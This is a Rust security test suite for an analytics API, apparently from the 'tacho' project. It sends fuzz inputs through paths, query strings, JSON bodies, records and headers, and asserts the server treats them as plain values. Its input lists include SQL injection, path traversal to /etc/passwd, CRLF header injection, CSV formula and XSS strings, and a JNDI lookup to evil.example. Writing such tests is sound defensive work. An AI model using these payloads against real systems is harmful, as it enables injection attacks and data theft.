//! Whatever stands in a parameter, a path, a body or a header stays a value: it is found, refused or not found, and
//! changes nothing else. Inputs are those of the description, so that those of new routes are tried by themselves.

use std::collections::BTreeSet;

use axum::http::{HeaderName, HeaderValue, Method, header};
use serde_json::{Map, Value, json};
use tacho_core::Role;

use crate::app::{Answer, App, Credential, request};

/// Texts that mean something to one of the languages on the way: SQL, patterns, paths, HTTP, terminals, spreadsheets, HTML,
/// templates, JSON, numbers.
const HOSTILE: [&str; 48] = [
    "' OR 1=1 --",
    "\"; DROP TABLE execution; --",
    "') UNION SELECT sql, 1 FROM sqlite_master --",
    "'; ATTACH '/tmp/x' AS y; --",
    "x' AND 1=CAST((SELECT 1) AS INT) AND 'x'='x",
    "$1",
    "?",
    "%",
    "_",
    "\\",
    "\\'",
    "'",
    "\"",
    "`",
    "/* x",
    "*/ --",
    "../../etc/passwd",
    "..\\..\\etc\\passwd",
    "/etc/passwd",
    "file:///etc/passwd",
    "a\r\nX-Evil: 1",
    "\u{1b}[31m",
    "\u{202e}fdp.exe",
    "e\u{301}",
    "\u{feff}bom",
    "\u{1f4a9}",
    "ﬁ\u{0130}ẞ",
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "'=1",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "${jndi:ldap://evil.example/x}",
    "99999999999999999999",
    "1e999",
    "NaN",
    "true",
    "null",
    "{}",
    "[\"x\"]",
    "a,b;c|d",
    "a b&c=d#e",
    " ",
];

/// What is no text, or too much of it: only where it is sent, never found again.
const BROKEN: [&str; 3] = ["", "\0", "a\0b"];

/// What stands in a path or behind `?` as it is, encoded in ways that do not decode to one text.
const RAW: [&str; 12] = [
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%2f..%2fetc%2fpasswd",
    "..%5c..%5cetc",
    "..%252f..%252fetc",
    "%00",
    "%ff",
    "%c0%af",
    "%ed%a0%80",
    "%",
    "%zz",
    "%u0041",
    "..;",
];

/// In place of a text in JSON.
const RAW_JSON: [&str; 12] = [
    r#""\ud800""#,
    r#""\udc00\ud800""#,
    r#""\u0000""#,
    r#""a\u0000b""#,
    "1e999",
    "-1",
    "18446744073709551616",
    "0.1",
    "true",
    "null",
    "[]",
    "{}",
];

/// The marks of another organization's things.
const OTHERS: [&str; 3] = ["zqb", "Stranger", "example.org"];

/// What only the inside says: of engines, of the file system, of panics.
const OF_THE_INSIDE: [&str; 12] = [
    "Parser Error",
    "Binder Error",
    "Catalog Error",
    "Conversion Error",
    "Invalid Input Error",
    "syntax error",
    "no such table",
    "no such column",
    "panicked",
    "root:x:",
    "X-Evil: 1\r\n\r\n",
    "/.tmp",
];

/// As long as a line of HTTP may be here.
const LONG_URI_BYTES: usize = 60_000;
const LONG_BODY_BYTES: usize = 100_000;

fn encoded(text: &str) -> String {
    text.bytes()
        .map(|byte| match byte {
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' => (byte as char).to_string(),
            other => format!("%{other:02X}"),
        })
        .collect()
}

/// Everything that is tried in a path or behind `?`.
fn tried_in_uri() -> Vec<String> {
    let texts = HOSTILE.iter().chain(&BROKEN).map(|text| encoded(text));
    let raw = RAW.iter().map(|text| (*text).to_owned());
    texts.chain(raw).chain(["x".repeat(LONG_URI_BYTES)]).collect()
}

/// Everything that is tried in place of a text in JSON, as JSON.
fn tried_in_json() -> Vec<String> {
    let texts = HOSTILE.iter().chain(&BROKEN).map(|text| json!(text).to_string());
    let raw = RAW_JSON.iter().map(|text| (*text).to_owned());
    let long = json!("x".repeat(LONG_BODY_BYTES)).to_string();
    texts.chain(raw).chain([long]).collect()
}

/// The law: found, refused or not found, well-formed, and nothing of others or of the inside.
fn check(answer: &Answer, asked: &str) {
    let asked = asked.chars().take(400).collect::<String>();
    let shown = || answer.text.chars().take(2_000).collect::<String>();
    let status = answer.status;
    assert!(
        status.is_success() || status.is_client_error(),
        "{asked}: {status} {}",
        shown()
    );
    let media_type = answer.headers.get(header::CONTENT_TYPE);
    let media_type = media_type.map_or("", |value| value.to_str().unwrap());
    match media_type.split(';').next().unwrap() {
        "application/json" => drop(answer.json()),
        "application/problem+json" => {
            let problem = answer.json();
            assert_eq!(problem["status"], status.as_u16(), "{asked}: {problem}");
            assert!(
                problem["code"].is_string() && problem["detail"].is_string(),
                "{asked}"
            );
        }
        "text/csv" => {
            let mut reader = csv::Reader::from_reader(answer.text.as_bytes());
            assert!(
                reader.records().all(|record| record.is_ok()),
                "{asked}: {}",
                shown()
            );
        }
        "" => assert!(answer.text.is_empty(), "{asked}: {}", shown()),
        other => assert!(
            status.is_success()
                && ["text/plain", "application/x-ndjson", "application/gzip"].contains(&other),
            "{asked}: {other} {}",
            shown()
        ),
    }
    let id = answer.headers["x-request-id"].as_bytes();
    let is_harmless = |byte: &u8| byte.is_ascii_alphanumeric() || b"-_.".contains(byte);
    assert!(
        id.iter().all(is_harmless) && id.len() <= 64,
        "{asked}: {answer:?}"
    );
    assert!(!answer.headers.contains_key("x-evil"), "{asked}: {answer:?}");
    assert!(
        answer.text.len() < 1 << 20,
        "{asked}: {} bytes",
        answer.text.len()
    );
    for word in OTHERS.iter().chain(&OF_THE_INSIDE) {
        assert!(!answer.text.contains(word), "{asked} shows {word}: {}", shown());
    }
}

/// A service with some things of each of two organizations.
struct Target {
    app: App,
    owner: Credential,
    stranger: Credential,
    /// Of the own organization: what stands in paths.
    user: String,
    dead_letter: String,
}

impl Target {
    async fn new() -> Self {
        let app = App::new().await;
        let (owner, stranger) = (
            app.session(Role::Owner).await,
            app.session_of(&app.stranger.1).await,
        );
        for (who, mark) in [(&owner, "zqa"), (&stranger, "zqb")] {
            let records = json!([
                {"type": "workflow", "id": "7", "name": mark, "owner_id": mark},
                {"type": "execution", "id": "run", "workflow_id": "7", "user_id": mark, "status": "failed",
                 "started_at": "2026-11-22T08:00:00Z", "completed_at": "2026-11-22T08:01:00Z", "error_type": mark,
                 "error_message": mark, "tags": {"team": mark, mark: "key"}},
                {"type": "step", "id": "step", "execution_id": "run", "step_name": mark, "status": "completed",
                 "started_at": "2026-11-22T08:00:00Z"},
                {"type": "metric", "id": "metric", "name": mark, "value": 1, "timestamp": "2026-11-22T08:00:00Z"},
                {"type": "execution", "id": "broken", "status": mark}
            ]);
            send(&app, who, records, 1).await;
        }
        let letters = app
            .metastore
            .dead_letters(app.organization.id, None, 1, None)
            .await
            .unwrap();
        Self {
            user: app.users[&Role::Viewer].id.to_string(),
            dead_letter: letters.letters[0].id.to_string(),
            app,
            owner,
            stranger,
        }
    }

    /// What both organizations hold.
    async fn digests(&self) -> [Value; 2] {
        let digest = async |who| self.app.get("/api/v1/store/digest", who).await.json();
        [digest(&self.owner).await, digest(&self.stranger).await]
    }

    /// The path with things that are there in it.
    fn fill(&self, path: &str) -> String {
        let id = match path.split('/').nth(3) {
            Some("users") => &self.user,
            Some("dead-letters") => &self.dead_letter,
            _ => "7",
        };
        path.replace("{id}", id)
            .replace("{fingerprint}", "019ab3c45d6e7f80")
            .replace("{procedures}", "analytics.getExecutionStats")
    }

    async fn try_uri(&self, method: &str, path: &str) -> Option<Answer> {
        // What is no URI never comes this far.
        path.parse::<axum::http::Uri>().ok()?;
        let answer = self
            .app
            .send(method.parse().unwrap(), path, &self.owner, None)
            .await;
        check(&answer, &format!("{method} {path}"));
        Some(answer)
    }

    async fn try_body(&self, method: &str, path: &str, body: String) -> Answer {
        let mut request = request(method.parse().unwrap(), path, &self.owner, Some(Value::Null));
        let asked = format!("{method} {path} {body}");
        *request.body_mut() = body.into();
        let answer = self.app.call(request).await;
        check(&answer, &asked);
        answer
    }
}

/// Sends records of which so many are refused, and waits until the store has the others.
async fn send(app: &App, who: &Credential, records: Value, refused: usize) {
    let answer = app
        .send(Method::POST, "/api/v1/records", who, Some(records))
        .await;
    let answer = answer.json();
    assert_eq!(answer["rejected"].as_array().unwrap().len(), refused, "{answer}");
    wait(app, who, answer["lsn"].as_u64()).await;
}

async fn wait(app: &App, who: &Credential, lsn: Option<u64>) {
    let applied = async {
        while app.get("/api/v1/store/digest", who).await.json()["applied_lsn"].as_u64() < lsn {
            tokio::time::sleep(std::time::Duration::from_millis(2)).await;
        }
    };
    tokio::time::timeout(std::time::Duration::from_secs(20), applied)
        .await
        .unwrap();
}

/// An operation of the description.
struct Operation {
    method: String,
    path: String,
    description: Value,
}

fn description() -> Value {
    serde_json::from_str(&tacho_api::openapi_json()).unwrap()
}

fn operations() -> Vec<Operation> {
    let mut operations = Vec::new();
    for (path, item) in description()["paths"].as_object().unwrap() {
        for (method, description) in item.as_object().unwrap() {
            operations.push(Operation {
                method: method.to_uppercase(),
                path: path.clone(),
                description: description.clone(),
            });
        }
    }
    operations
}

impl Operation {
    fn parameters(&self, place: &str) -> Vec<(String, bool)> {
        let parameters = self.description["parameters"].as_array();
        let parameters = parameters.into_iter().flatten();
        let here = parameters.filter(|parameter| parameter["in"] == place);
        here.map(|parameter| {
            let name = parameter["name"].as_str().unwrap().to_owned();
            (name, parameter["required"] == true)
        })
        .collect()
    }
}

#[tokio::test]
async fn a_path_names_a_thing_or_nothing() {
    let target = Target::new().await;
    let before = target.digests().await;
    let mut tried = BTreeSet::new();
    for operation in operations() {
        for (name, _) in operation.parameters("path") {
            tried.insert((operation.method.clone(), operation.path.clone()));
            for value in tried_in_uri() {
                let path = operation.path.replace(&format!("{{{name}}}"), &value);
                target.try_uri(&operation.method, &path).await;
                let filled = format!("{}{}", target.fill(&operation.path), value);
                if value.len() < 100 {
                    target.try_uri(&operation.method, &filled).await;
                }
            }
        }
    }
    assert!(tried.len() >= 15, "{tried:?}");
    assert_eq!(target.digests().await, before);
}

/// Files of the web application and of the description are served from memory, by name.
#[tokio::test]
async fn no_path_leads_out_of_the_web_application() {
    let target = Target::new().await;
    for folder in ["/", "/assets/", "/docs/", "/api/v1/", "/trpc/", "//", "/\\"] {
        for value in tried_in_uri() {
            let path = format!("{folder}{value}");
            if path.parse::<axum::http::Uri>().is_err() {
                continue;
            }
            let answer = target.app.get(&path, &Credential::None).await;
            let asked = path.chars().take(100).collect::<String>();
            assert!(!answer.status.is_server_error(), "{asked}: {answer:?}");
            assert!(!answer.text.contains("root:x:"), "{asked}");
            let location = answer.headers.get(header::LOCATION);
            assert!(location.is_none_or(|to| to == "/docs/"), "{asked}: {location:?}");
        }
    }
}

async fn parameters_are_values(is_mine: impl Fn(&str) -> bool) {
    let target = Target::new().await;
    let before = target.digests().await;
    let mut tried = 0;
    for operation in operations().iter().filter(|operation| is_mine(&operation.path)) {
        let parameters = operation.parameters("query");
        for (name, _) in &parameters {
            let others = parameters
                .iter()
                .filter(|(other, required)| *required && other != name);
            let others: String = others
                .map(|(name, _)| format!("{name}={}&", if name == "ids" { "7,8" } else { "7" }))
                .collect();
            for value in tried_in_uri() {
                let path = format!("{}?{others}{name}={value}", target.fill(&operation.path));
                tried += usize::from(target.try_uri(&operation.method, &path).await.is_some());
            }
            for rest in [
                format!("{name}=1&{name}=2"),
                format!("{name}[]=1"),
                format!("{name}[$ne]=1"),
                name.clone(),
            ] {
                let path = format!("{}?{others}{rest}", target.fill(&operation.path));
                target.try_uri(&operation.method, &path).await;
            }
        }
    }
    assert!(tried > 500, "{tried}");
    assert_eq!(target.digests().await, before);
}

#[tokio::test]
async fn parameters_of_reports_are_values() {
    parameters_are_values(|path| path.starts_with("/api/v1/analytics/executions")).await;
}

#[tokio::test]
async fn parameters_of_workflows_are_values() {
    parameters_are_values(|path| path.starts_with("/api/v1/analytics/workflows")).await;
}

#[tokio::test]
async fn parameters_of_other_routes_are_values() {
    let is_report = |path: &str| {
        path.starts_with("/api/v1/analytics/executions") || path.starts_with("/api/v1/analytics/workflows")
    };
    parameters_are_values(|path| !is_report(path)).await;
}

/// Values of every shape that a schema describes: with every property, and every variant at least once.
fn samples(description: &Value, schema: &Value, within: &[&str]) -> Vec<Value> {
    if let Some(name) = schema["$ref"].as_str() {
        if within.contains(&name) {
            return Vec::new();
        }
        let schema = &description["components"]["schemas"][name.rsplit('/').next().unwrap()];
        let within: Vec<_> = within.iter().copied().chain([name]).collect();
        return samples(description, schema, &within);
    }
    if let Some(variants) = schema["oneOf"].as_array() {
        let variants = variants.iter().filter(|variant| variant["type"] != "null");
        return variants
            .flat_map(|variant| samples(description, variant, within))
            .collect();
    }
    let is = |kind: &str| {
        let types = &schema["type"];
        types == kind
            || types
                .as_array()
                .is_some_and(|types| types.iter().any(|one| one == kind))
    };
    if is("object") {
        let Some(properties) = schema["properties"].as_object() else {
            return vec![json!({"team": "x"})];
        };
        let of_each = properties
            .iter()
            .map(|(name, schema)| (name, samples(description, schema, within)));
        let of_each: Vec<_> = of_each.collect();
        let first = of_each
            .iter()
            .filter_map(|(name, values)| Some(((*name).clone(), values.first()?.clone())));
        let first: Map<String, Value> = first.collect();
        let mut all = vec![Value::Object(first)];
        for (name, values) in &of_each {
            for value in values.iter().skip(1) {
                let mut other = all[0].clone();
                other[name.as_str()] = value.clone();
                all.push(other);
            }
        }
        return all;
    }
    if is("array") {
        let items = samples(description, &schema["items"], within);
        return items.into_iter().map(|item| json!([item])).collect();
    }
    let value = match schema {
        _ if is("integer") || is("number") => json!(1),
        _ if is("boolean") => json!(true),
        schema if schema["enum"].is_array() => schema["enum"][0].clone(),
        schema if schema["example"].is_string() => schema["example"].clone(),
        schema if schema["format"] == "date-time" => json!("2026-11-22T00:00:00Z"),
        schema if schema["format"] == "password" => json!("correct horse battery"),
        _ => json!("x"),
    };
    vec![value]
}

/// The places of all texts in a value.
fn texts(value: &Value, at: &str) -> Vec<String> {
    match value {
        Value::String(_) => vec![at.to_owned()],
        Value::Array(items) => (0..items.len())
            .flat_map(|place| texts(&items[place], &format!("{at}/{place}")))
            .collect(),
        Value::Object(fields) => fields
            .iter()
            .flat_map(|(name, value)| texts(value, &format!("{at}/{name}")))
            .collect(),
        _ => Vec::new(),
    }
}

/// The JSON text of a value with something else in a place, given as JSON.
fn with(value: &Value, place: &str, json: &str) -> String {
    const TOKEN: &str = "4f1c-token";
    let mut value = value.clone();
    *value.pointer_mut(place).unwrap() = TOKEN.into();
    value.to_string().replace(&format!("\"{TOKEN}\""), json)
}

/// The same with the name of a field instead of its value.
fn with_name(value: &Value, place: &str, name: &str) -> Option<String> {
    let (parent, old) = place.rsplit_once('/')?;
    let mut value = value.clone();
    let fields = value.pointer_mut(parent)?.as_object_mut()?;
    let moved = fields.remove(old)?;
    fields.insert(name.to_owned(), moved);
    Some(value.to_string())
}

/// Bodies for an operation, out of its description.
fn bodies(description: &Value, operation: &Operation) -> Vec<Value> {
    let schema = &operation.description["requestBody"]["content"]["application/json"]["schema"];
    match schema {
        Value::Null => Vec::new(),
        schema => samples(description, schema, &[]),
    }
}

/// Questions that are answered, so that what stands in them goes all the way.
fn answered_questions() -> Vec<Value> {
    let question = |field: &str, op: &str| {
        json!({"source": "executions", "measures": ["count"], "dimensions": ["tags.team"], "time": {"period": "week"},
               "filters": [{"field": field, "op": op, "value": "zqa"}]})
    };
    let mut all: Vec<_> = ["eq", "ne", "contains", "starts_with", "matches", "lt"]
        .iter()
        .flat_map(|op| ["error_message", "tags.team", "workflow"].map(|field| question(field, op)))
        .collect();
    all.push(json!({"source": "steps", "measures": ["count"], "time": {"last": "7d"}, "timezone": "UTC",
        "dimensions": ["step_name"], "having": [{"measure": "count", "op": "gte", "value": 1}], "baseline": "first",
        "order": [{"by": "count", "direction": "desc"}]}));
    all.push(
        json!({"source": "executions", "measures": ["count"], "granularity": "day", "compare": "previous_period",
        "time": {"from": "2026-11-20T00:00:00Z", "to": "2026-11-22T00:00:00Z"},
        "filters": [{"or": [{"field": "user", "op": "in", "values": ["zqa"]},
                            {"not": {"field": "id", "op": "not_in", "values": ["zqa"]}}]}]}),
    );
    all
}

/// Those that take a body of their own below.
const TRIED_APART: [&str; 2] = ["/api/v1/records", "/api/v1/query"];

#[tokio::test]
async fn texts_of_bodies_are_values() {
    let target = Target::new().await;
    let before = target.digests().await;
    let description = description();
    let mut tried = BTreeSet::new();
    for operation in operations() {
        if TRIED_APART.contains(&operation.path.as_str()) {
            continue;
        }
        let path = target.fill(&operation.path);
        for body in bodies(&description, &operation) {
            let mut places = texts(&body, "");
            // One of each kind will do where a password is hashed.
            let is_slow =
                ["/api/v1/users", "/api/v1/setup", "/api/v1/session"].contains(&operation.path.as_str());
            places.retain(|place| {
                tried.insert((operation.path.clone(), operation.method.clone(), place.clone()))
            });
            for place in places {
                let step = if is_slow { 9 } else { 1 };
                for json in tried_in_json().iter().step_by(step) {
                    let answer = target
                        .try_body(&operation.method, &path, with(&body, &place, json))
                        .await;
                    // So that there is room for the next.
                    if operation.path == "/api/v1/exports" && answer.status == 202 {
                        let made = format!("/api/v1/exports/{}", answer.json()["id"].as_str().unwrap());
                        target.app.send(Method::DELETE, &made, &target.owner, None).await;
                    }
                }
            }
        }
    }
    assert!(tried.len() > 40, "{tried:?}");
    assert_eq!(target.digests().await, before);
}

#[tokio::test]
async fn texts_of_questions_are_values() {
    let target = Target::new().await;
    let before = target.digests().await;
    let described = operations()
        .into_iter()
        .find(|operation| operation.path == "/api/v1/query");
    let mut questions = bodies(&description(), &described.unwrap());
    questions.retain(|body| body.get("queries").is_none());
    questions.truncate(1);
    questions.extend(answered_questions());
    let (mut answered, mut refused) = (0, 0);
    for question in questions {
        for place in texts(&question, "") {
            let tried: Vec<_> = tried_in_json()
                .iter()
                .map(|json| with(&question, &place, json))
                .collect();
            for batch in tried.chunks(50) {
                // What cannot be read at all is tried alone, or the others were not asked.
                let (whole, broken): (Vec<_>, Vec<_>) = batch
                    .iter()
                    .partition(|text| serde_json::from_str::<Value>(text).is_ok());
                let whole: Vec<_> = whole.into_iter().map(String::as_str).collect();
                let body = format!("{{\"queries\":[{}]}}", whole.join(","));
                let answer = target.try_body("POST", "/api/v1/query", body).await;
                for one in answer.json()["answers"].as_array().into_iter().flatten() {
                    match one["status"].as_u64() {
                        None => answered += 1,
                        Some(status) => {
                            assert!((400..500).contains(&status), "{place} {one}");
                            refused += 1;
                        }
                    }
                }
                for text in broken {
                    let answer = target.try_body("POST", "/api/v1/query", text.clone()).await;
                    assert_eq!(answer.status, 400, "{text}");
                }
            }
        }
    }
    assert!(answered > 500 && refused > 500, "{answered} {refused}");
    assert_eq!(target.digests().await, before);
}

/// Inputs of procedures are JSON within the query string.
#[tokio::test]
async fn inputs_of_procedures_are_values() {
    let target = Target::new().await;
    let input = json!({"period": "week", "taskId": "7", "groupBy": "day", "metrics": ["duration"]});
    for procedure in ["getTaskMetrics", "getUsageStats", "getPerformanceTrends"] {
        for place in texts(&input, "") {
            for json in tried_in_json() {
                let json = encoded(&with(&input, &place, &json));
                if json.len() < LONG_URI_BYTES {
                    let path = format!("/trpc/analytics.{procedure}?input={json}");
                    target.try_uri("GET", &path).await;
                }
            }
        }
    }
}

/// Records are taken or refused one by one, whatever stands in them, and every question about them is answered.
#[tokio::test]
async fn texts_of_records_are_values() {
    let target = Target::new().await;
    let before = target.digests().await;
    let described = operations()
        .into_iter()
        .find(|operation| operation.path == "/api/v1/records");
    let bodies = bodies(&description(), &described.unwrap());
    let records: Vec<_> = bodies.into_iter().filter(Value::is_object).collect();
    assert!(records.len() >= 10, "{records:?}");
    let mut lsn = None;
    for record in &records {
        for place in texts(record, "") {
            let mut tried: Vec<_> = tried_in_json()
                .iter()
                .map(|json| with(record, &place, json))
                .collect();
            tried.extend(HOSTILE.iter().filter_map(|name| with_name(record, &place, name)));
            let body = tried.join("\n");
            let mut lines = request(Method::POST, "/api/v1/records", &target.owner, Some(Value::Null));
            lines
                .headers_mut()
                .insert(header::CONTENT_TYPE, "application/x-ndjson".parse().unwrap());
            *lines.body_mut() = body.into();
            let answer = target.app.call(lines).await;
            check(&answer, &format!("{place} of {record}"));
            assert_eq!(answer.status, 202, "{answer:?}");
            let told = answer.json();
            let count =
                told["accepted"].as_u64().unwrap() as usize + told["rejected"].as_array().unwrap().len();
            assert!(count <= tried.len(), "{told}");
            lsn = told["lsn"].as_u64().or(lsn);
        }
    }
    wait(&target.app, &target.owner, lsn).await;
    let model = target.app.get("/api/v1/model", &target.owner).await.json();
    for source in model["sources"].as_array().unwrap() {
        let dimensions = source["dimensions"].as_array().unwrap().iter();
        let queries: Vec<_> = dimensions
            .map(|dimension| {
                json!({"source": source["name"], "measures": ["count"], "dimensions": [dimension["name"]],
                       "time": {"period": "all"}, "limit": 1000})
            })
            .collect();
        for batch in queries.chunks(10) {
            let body = json!({ "queries": batch }).to_string();
            let answer = target.try_body("POST", "/api/v1/query", body).await.json();
            for one in answer["answers"].as_array().unwrap() {
                assert!(one["status"].is_null(), "{one}");
            }
        }
    }
    assert_eq!(target.digests().await[1], before[1]);
}

/// Headers that something on the way reads, or might.
const HEADERS: [&str; 24] = [
    "accept",
    "accept-encoding",
    "authorization",
    "cache-control",
    "content-encoding",
    "content-length",
    "content-type",
    "cookie",
    "forwarded",
    "host",
    "idempotency-key",
    "if-none-match",
    "if-range",
    "origin",
    "range",
    "referer",
    "user-agent",
    "x-forwarded-for",
    "x-forwarded-host",
    "x-http-method-override",
    "x-real-ip",
    "x-request-id",
    "x-tacho-csrf",
    "x-tacho-strict",
];

#[tokio::test]
async fn headers_are_values() {
    let target = Target::new().await;
    let before = target.digests().await;
    let export = crate::exports::written(&target.app, &target.owner).await;
    let download = format!("/api/v1/exports/{export}/download");
    let question = json!({"source": "executions", "measures": ["count"], "time": {"period": "week"}});
    let requests = [
        (Method::GET, "/api/v1/executions?limit=1", None),
        (Method::GET, &download, None),
        (Method::GET, "/api/v1/audit/export", None),
        (Method::POST, "/api/v1/query", Some(question)),
        (Method::POST, "/api/v1/records", Some(json!([]))),
        (Method::GET, "/trpc/analytics.getExecutionStats", None),
    ];
    let texts = HOSTILE.iter().chain(&BROKEN).map(|text| text.as_bytes().to_vec());
    let others = [
        b"\xff\xfe".to_vec(),
        vec![b'x'; LONG_URI_BYTES],
        b"bytes=-1,-2,5-1,0-99999999999999999999".to_vec(),
        b"bytes=18446744073709551615-".to_vec(),
        b"Bearer tacho_' OR 1=1 --".to_vec(),
        b"tacho_session=' OR 1=1 --; tacho_session=x".to_vec(),
        b"::1, ' OR 1=1".to_vec(),
        b"text/csv;q=nonsense,*/*;q=-1".to_vec(),
        b"a\tb".to_vec(),
    ];
    let mut tried = 0;
    for (at, value) in texts.chain(others).enumerate() {
        // A line of a header cannot hold the ends of lines.
        let Ok(value) = HeaderValue::from_bytes(&value) else {
            continue;
        };
        for name in HEADERS {
            // In some requests; each header is in each of them in the end.
            for (method, path, body) in requests.iter().cycle().skip(at % 6).take(2) {
                let mut request = request(method.clone(), path, &target.owner, body.clone());
                request
                    .headers_mut()
                    .insert(HeaderName::from_static(name), value.clone());
                let answer = target.app.call(request).await;
                check(&answer, &format!("{method} {path} {name}: {value:?}"));
                tried += 1;
            }
        }
    }
    assert!(tried > 2_000, "{tried}");
    assert_eq!(target.digests().await, before);
    let log = target.app.get("/api/v1/audit/export", &target.owner).await;
    check_no_formula(&log);
}

/// No cell of a CSV begins as a formula does.
fn check_no_formula(answer: &Answer) {
    check(answer, "CSV");
    let mut reader = csv::Reader::from_reader(answer.text.as_bytes());
    for record in reader.records() {
        for cell in &record.unwrap() {
            assert!(!cell.starts_with(['=', '+', '@', '\t', '\r', '\n']), "{cell:?}");
            assert!(!cell.starts_with('-') || cell.parse::<f64>().is_ok(), "{cell:?}");
        }
    }
}

/// What a spreadsheet is to be shown for a text.
fn neutralised(text: &str) -> String {
    let is_formula = text
        .trim_start_matches('\'')
        .starts_with(['=', '+', '-', '@', '\t', '\r', '\n']);
    if is_formula {
        format!("'{text}")
    } else {
        text.to_owned()
    }
}

/// One failed run for each text, which stands wherever a text may stand.
async fn app_with_hostile_records() -> (App, Credential) {
    let app = App::new().await;
    let owner = app.session(Role::Owner).await;
    let records = HOSTILE.iter().flat_map(|&text| {
        [
            json!({"type": "workflow", "id": text, "name": text, "owner_id": text, "group": text, "version": text}),
            json!({"type": "execution", "id": text, "workflow_id": text, "status": "failed", "user_id": text,
                   "started_at": "2026-11-22T08:00:00Z", "completed_at": "2026-11-22T08:01:00Z", "error_type": text,
                   "error_message": text, "trace_id": text, "variant": text, "tags": {"team": text, text: "key"},
                   "metadata": {"text": text, text: 1}}),
            json!({"type": "step", "id": format!("step {text}"), "execution_id": text, "step_id": text,
                   "step_name": text, "step_type": text, "status": "failed", "error_message": text,
                   "started_at": "2026-11-22T08:00:00Z"}),
            json!({"type": "cost", "id": format!("cost {text}"), "execution_id": text, "workflow_id": text,
                   "action_type": text, "amount_usd": 1, "timestamp": "2026-11-22T08:00:00Z"}),
            json!({"type": "metric", "id": format!("metric {text}"), "name": text, "value": 7,
                   "timestamp": "2026-11-22T08:00:00Z", "tags": {"team": text}}),
        ]
    });
    send(&app, &owner, records.collect(), 0).await;
    (app, owner)
}

async fn get(app: &App, who: &Credential, path: &str) -> Value {
    let answer = app.get(path, who).await;
    assert_eq!(answer.status, 200, "{path}: {answer:?}");
    answer.json()
}

fn ids(list: &Value) -> BTreeSet<&str> {
    let executions = list["executions"].as_array().unwrap().iter();
    executions
        .map(|execution| execution["id"].as_str().unwrap())
        .collect()
}

#[tokio::test]
async fn hostile_texts_come_back_as_they_were_sent() {
    let (app, owner) = app_with_hostile_records().await;
    let list = get(&app, &owner, "/api/v1/executions?limit=200").await;
    let executions = list["executions"].as_array().unwrap();
    assert_eq!(executions.len(), HOSTILE.len());
    for execution in executions {
        let text = &execution["id"];
        assert!(HOSTILE.contains(&text.as_str().unwrap()), "{text}");
        for field in [
            "workflow_id",
            "workflow_name",
            "user_id",
            "error_type",
            "error_message",
            "trace_id",
            "variant",
        ] {
            assert_eq!(&execution[field], text, "{field}");
        }
        let tags = json!({"team": text, text.as_str().unwrap(): "key"});
        assert_eq!(execution["tags"], tags);
    }
    for text in HOSTILE {
        let detail = get(&app, &owner, &format!("/api/v1/executions/{}", encoded(text))).await;
        assert_eq!(detail["execution"]["metadata"], json!({"text": text, text: 1}));
        let step = &detail["steps"][0];
        assert_eq!(
            (&step["step_name"], &step["step_id"], &step["error_message"]),
            (&json!(text), &json!(text), &json!(text))
        );
        assert_eq!(detail["costs"][0]["action_type"], text);
        let workflow = get(&app, &owner, &format!("/api/v1/workflows/{}", encoded(text))).await;
        assert_eq!(
            (&workflow["name"], &workflow["owner_id"]),
            (&json!(text), &json!(text))
        );
        let task = format!("/api/v1/analytics/task-metrics?taskId={}", encoded(text));
        let task = get(&app, &owner, &task).await;
        assert_eq!(
            (&task["taskName"], &task["execution"]["total"]),
            (&json!(text), &json!(1))
        );
    }
    let failures = get(&app, &owner, "/api/v1/failures?limit=200").await;
    let failures = failures["failures"].as_array().unwrap();
    let types: BTreeSet<_> = failures
        .iter()
        .map(|failure| failure["error_type"].as_str().unwrap())
        .collect();
    // Faults are told apart without the white space around their type.
    let types: BTreeSet<_> = types.into_iter().map(str::trim).collect();
    let sent = HOSTILE.iter().map(|text| text.trim());
    assert_eq!(types, sent.filter(|text| !text.is_empty()).collect());
}

#[tokio::test]
async fn filtering_by_a_hostile_text_finds_what_has_it() {
    let (app, owner) = app_with_hostile_records().await;
    for text in HOSTILE {
        for name in ["workflow_id", "user_id", "error_type"] {
            let path = format!("/api/v1/executions?limit=200&{name}={}", encoded(text));
            assert_eq!(
                ids(&get(&app, &owner, &path).await),
                BTreeSet::from([text]),
                "{name}"
            );
        }
        let holding = |holds: &dyn Fn(&str) -> bool| {
            let found = HOSTILE.iter().filter(|other| holds(&other.to_lowercase()));
            found.copied().collect::<BTreeSet<_>>()
        };
        let lower = text.to_lowercase();
        let containing = holding(&|other| other.contains(&lower));
        let path = format!("/api/v1/executions?limit=200&search={}", encoded(text));
        assert_eq!(ids(&get(&app, &owner, &path).await), containing, "{text:?}");

        let count = |source: &str, field: &str, op: &str| {
            json!({"source": source, "measures": ["count"], "time": {"period": "week"},
                   "filters": [{"field": field, "op": op, "value": text}]})
        };
        let starting = holding(&|other| other.starts_with(&lower)).len();
        let asked = [
            (count("executions", "id", "eq"), 1),
            (count("executions", "workflow", "eq"), 1),
            (count("executions", "user", "eq"), 1),
            (count("executions", "error_message", "eq"), 1),
            (count("executions", "error_message", "ne"), HOSTILE.len() - 1),
            (count("executions", "error_message", "contains"), containing.len()),
            (count("executions", "error_message", "starts_with"), starting),
            (count("executions", "tags.team", "eq"), 1),
            (count("steps", "step_name", "eq"), 1),
            (count("costs", "action_type", "eq"), 1),
            (count("metrics", "name", "eq"), 1),
            (
                json!({"source": "executions", "measures": ["count"], "time": {"period": "week"},
                       "filters": [{"field": format!("tags.{text}"), "op": "eq", "value": "key"}]}),
                1,
            ),
            (
                json!({"source": "executions", "measures": ["count"], "time": {"period": "week"},
                       "filters": [{"field": "user", "op": "in", "values": [text, "nobody"]}]}),
                1,
            ),
        ];
        let queries: Vec<_> = asked.iter().map(|(query, _)| query).collect();
        let answer = app
            .send(
                Method::POST,
                "/api/v1/query",
                &owner,
                Some(json!({ "queries": queries })),
            )
            .await
            .json();
        for ((query, expected), answer) in asked.iter().zip(answer["answers"].as_array().unwrap()) {
            assert_eq!(answer["totals"], json!([expected]), "{query}: {answer}");
        }
        let metric = json!({"metric_name": text, "filters": {"team": text}, "group_by": ["team"]});
        let metric = app
            .send(Method::POST, "/api/v1/metrics/query", &owner, Some(metric))
            .await
            .json();
        let points = metric["data"].as_array().unwrap();
        assert_eq!(points.len(), 1, "{text:?}: {metric}");
        assert_eq!(
            (&points[0]["value"], &points[0]["tags"]["team"]),
            (&json!(7.0), &json!(text))
        );
    }
}

#[tokio::test]
